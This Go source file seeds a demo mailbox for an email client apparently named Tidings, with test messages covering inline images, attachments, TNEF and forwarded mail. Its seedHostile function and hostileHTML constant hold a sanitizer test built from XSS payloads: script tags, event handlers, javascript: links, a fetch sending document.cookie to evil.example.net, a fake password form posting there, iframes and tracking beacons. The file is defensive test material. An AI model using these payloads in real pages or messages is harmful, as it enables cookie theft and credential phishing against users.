package demo

import "fmt"

// seedSpecial adds the INBOX messages that exercise MIME handling: inline
// cid: images, every kind of attachment, a forwarded message, an Outlook
// winmail.dat, large messages, and the hostile HTML message.
func (s *seeder) seedSpecial() {
	logo := logoPNG()

	// multipart/alternative with a multipart/related HTML side (cid: logo).
	welcomeText := "Welcome to Northwind!\n\nThis pack explains how the cooperative works: shifts, member discounts and the assembly.\n\nAlice"
	s.add("INBOX", seen, s.day(6, 9, 0), envelope{
		from: alice, to: []person{me},
		subject: "Welcome pack for new members (please check before printing)",
	}, alternative(plainText(welcomeText), related(htmlText(fmt.Sprintf(welcomeHTML, "cid:logo.4f2a@example.org")),
		inlineImage("image/png", "logo.png", "logo.4f2a@example.org", logo))))

	// multipart/mixed holding a related HTML body and a PDF attachment.
	s.add("INBOX", seen, s.day(45, 15, 30), envelope{
		from: alice, to: []person{me}, cc: []person{priya},
		subject: "Membership certificate template",
	}, mixed(
		related(htmlText(fmt.Sprintf(certificateHTML, "cid:seal@example.org")),
			inlineImage("image/png", "seal.png", "seal@example.org", logo)),
		attachment("application/pdf", "certificate-template.pdf",
			invoicePDF("Membership certificate", "This certifies that ______ is a member", "of the Northwind Cooperative since ______.")),
	))

	// Large: a 45-page PDF report (about 270 KB as base64).
	s.add("INBOX", seen|flagged, s.day(9, 17, 48), envelope{
		from: bob, to: []person{boardList}, cc: []person{me},
		subject: "Annual report 2025 - draft for review",
	}, mixed(
		plainText(wrap("Dear board,\n\nAttached is the full draft of the annual report. The financial pages (30-38) still need the auditor's numbers. Comments by the 20th please, either in the PDF or by mail.\n\nBob", 72)),
		attachment("application/pdf", "Annual-report-2025-draft.pdf", reportPDF("Northwind Cooperative - Annual report 2025", 45, s.rng)),
	))

	// Large: a photo and a chart.
	s.add("INBOX", seen, s.day(12, 20, 14), envelope{
		from: carol, to: []person{staffList},
		subject: "Photos from the repair café",
	}, mixed(
		plainText(wrap("Hi all,\n\nWhat a day: 43 items repaired, 11 bikes, and the toaster that nobody believed in. One photo attached (the others are on the shared drive), plus the chart of repairs by category.\n\nCarol", 72)),
		attachment("image/jpeg", "repair-cafe.jpg", photoJPEG(640, 480, 7)),
		attachment("image/png", "repairs-by-category.png", chartPNG([]int{43, 80, 25, 60, 95, 30})),
	))

	// A forwarded message as message/rfc822 (.eml).
	inner := s.innerMessage()
	s.add("INBOX", seen, s.day(5, 13, 37), envelope{
		from: sam, to: []person{me},
		subject: "Fwd: Complaint about the bread delivery",
	}, mixed(
		plainText("Robin, see the mail below from a member. Could you answer? I am off until Monday.\n\nSam"),
		forwarded("Complaint about the bread delivery.eml", inner),
	))

	// Outlook's TNEF envelope.
	s.add("INBOX", seen, s.day(20, 10, 5), envelope{
		from: tom, to: []person{me},
		subject: "Minutes of the neighbourhood council",
		extra:   [][2]string{{"X-Mailer", "Microsoft Outlook 16.0"}},
	}, mixed(
		plainText("Hello Robin,\n\nPlease find the minutes attached.\n\nRegards,\nTom Becker"),
		attachment("application/ms-tnef", "winmail.dat",
			tnefWinmail("minutes.txt", []byte("Neighbourhood council minutes\r\n\r\n1. Street festival: approved.\r\n2. Bike racks: two more at the co-op.\r\n"))),
	))

	// CSV and TXT attachments.
	rotaText := "Hello volunteers,\n\nThe rota for next week is attached as a spreadsheet (CSV) and as plain text for those reading on the phone. Swaps: reply to me, not to the list.\n\nCarol"
	rota := s.add("INBOX", seen|answered, s.day(8, 11, 22), envelope{
		from: carol, to: []person{volunteerList}, cc: []person{me},
		subject: "Volunteer rota for next week",
	}, mixed(
		plainText(wrap(rotaText, 72)),
		textAttachment("text/csv", "rota.csv", volunteerCSV()),
		textAttachment("text/plain", "rota.txt", []byte("Monday    morning  Carol (till)\r\nMonday    evening  Sam (stock)\r\nTuesday   morning  Émilie (events)\r\n")),
	))

	rota.text = rotaText
	s.kept["rota"] = rota

	// A PDF with a non-ASCII file name (RFC 2231).
	s.add("INBOX", seen, s.day(23, 8, 41), envelope{
		from: juergen, to: []person{me},
		subject: "Protokoll Einkaufsrunde März",
	}, mixed(
		plainText("Hallo Robin,\n\nanbei das Protokoll der Einkaufsrunde.\n\nViele Grüße\nJürgen"),
		attachment("application/pdf", "Protokoll_Einkauf_März.pdf",
			invoicePDF("Protokoll Einkaufsrunde", "Anwesend: J. Mueller, S. Lee, R. Demo", "1. Neue Lieferanten fuer Milchprodukte", "2. Preise fuer Eier ab April")),
	))

	s.seedHostile()
}

// innerMessage is the original of the forwarded complaint: a complete
// multipart/alternative message of its own.
func (s *seeder) innerMessage() []byte {
	s.seq++
	text := "Hello,\n\nFor the third Saturday in a row the sourdough loaves were gone by 9:30. Could you order more, or let members reserve a loaf?\n\nThanks,\nHelena"
	env := envelope{
		from:    person{"Helena Brooks", "helena.brooks@example.net"},
		to:      []person{sam},
		subject: "Complaint about the bread delivery",
		date:    s.day(6, 19, 2),
		id:      fmt.Sprintf("complaint.%04d@example.net", s.seq),
	}
	return render(&env, alternative(plainText(wrap(text, 72)),
		htmlText("<p>Hello,</p><p>For the <b>third Saturday in a row</b> the sourdough loaves were gone by 9:30. Could you order more, or let members reserve a loaf?</p><p>Thanks,<br>Helena</p>")), s.seq)
}

// seedHostile adds the message that proves sanitizing works: script, event
// handlers, javascript: links, a form, frames, CSS beacons and an SVG and
// HTML attachment with script. None of it may run or load in Tidings.
func (s *seeder) seedHostile() {
	s.add("INBOX", 0, s.day(0, 7, 30), envelope{
		from:    person{"Security Test", "security-test@example.net"},
		to:      []person{me},
		subject: "Security test: this message contains script that must not run",
	}, mixed(
		htmlText(hostileHTML),
		attachment("image/svg+xml", "chart.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="100" height="40" onload="alert('xss: svg onload ran')"><script>alert('xss: svg script ran')</script><text x="5" y="25">chart</text></svg>`)),
		attachment("text/html", "statement.html", []byte(`<html><body><script>alert('xss: attachment script ran')</script><p>Statement</p></body></html>`)),
	))
}

const hostileHTML = `<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="0; url=https://evil.example.net/redirected">
<base href="https://evil.example.net/">
<link rel="stylesheet" href="https://evil.example.net/steal.css">
<style>body { background: url(https://tracker.example.com/style-beacon.gif); }</style>
<script>document.title = 'xss: head script ran';</script>
</head>
<body onload="alert('xss: body onload ran')">
<h1>Security test</h1>
<p>If you are reading this in Tidings, nothing below did anything: no alert, no redirect, no request to evil.example.net or tracker.example.com.</p>
<script>alert('xss: script tag ran'); fetch('https://evil.example.net/steal?c=' + document.cookie);</script>
<img src="https://evil.example.net/missing.png" onerror="alert('xss: onerror ran')" alt="broken image with onerror">
<p><a href="javascript:alert('xss: javascript link ran')">Click here to claim your prize</a></p>
<p><a href="https://example.org/" onclick="alert('xss: onclick ran'); return false">A normal-looking link with onclick</a></p>
<form action="https://evil.example.net/collect" method="post">
<p>Your password has expired. Sign in again:</p>
<input type="text" name="user" value="demo"><input type="password" name="password"><button type="submit">Sign in</button>
</form>
<iframe src="https://evil.example.net/frame" width="300" height="100"></iframe>
<object data="https://evil.example.net/plugin.swf"></object>
<embed src="https://evil.example.net/plugin.swf">
<svg width="10" height="10" onload="alert('xss: inline svg onload ran')"></svg>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background-image:url(https://tracker.example.com/css-beacon.gif)">A full-screen overlay that must not cover the app.</div>
<p style="color:red">Red text is fine: inline colours may stay.</p>
</body></html>`

const welcomeHTML = `<html><body style="font-family:Georgia,serif;color:#222">
<table width="100%%" cellpadding="0" cellspacing="0" style="max-width:600px;margin:0 auto">
<tr><td style="padding:16px;background:#2e7d32;color:#fff">
<img src="%s" width="64" height="64" alt="Northwind logo" style="vertical-align:middle">
<span style="font-size:22px;margin-left:12px">Welcome to Northwind!</span></td></tr>
<tr><td style="padding:16px">
<p>This pack explains how the cooperative works:</p>
<ul><li><b>Shifts:</b> three hours a month keep the shop running.</li>
<li><b>Discounts:</b> members pay 10&nbsp;%% less on everything.</li>
<li><b>Assembly:</b> twice a year, one member, one vote.</li></ul>
<p>Alice</p></td></tr></table></body></html>`

const certificateHTML = `<html><body>
<div style="border:4px double #2e7d32;padding:24px;text-align:center;font-family:Georgia,serif">
<img src="%s" alt="Co-op seal" width="64" height="64">
<h2 style="color:#2e7d32">Membership certificate</h2>
<p>Here is the new template. The PDF is for printing; the seal above is embedded in this mail.</p>
</div></body></html>`
